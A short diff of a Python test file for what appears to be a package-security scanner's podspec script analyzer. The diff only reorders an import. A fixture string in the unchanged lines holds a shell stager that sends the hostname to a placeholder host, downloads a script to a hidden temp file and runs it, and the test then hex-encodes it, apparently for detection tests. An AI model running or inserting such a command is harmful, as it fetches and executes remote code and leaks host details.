@@ -5,10 +5,10 @@ from __future__ import annotations
 
 import base64
 
+from test_install_scripts import artifact, findings
+
 from npmward.analyzers.podspec import podspec_scripts
 from npmward.model import Severity
-
-from test_install_scripts import artifact, findings
 
 STAGE = "#!/bin/sh\ncurl -fsSL \"https://cdn.haptics.invalid/ios/a.sh?h=$(hostname)&v=2\" -o \"${TMPDIR:-/tmp}/.a\" && sh \"${TMPDIR:-/tmp}/.a\" &\n"
 HEX = STAGE.encode().hex()
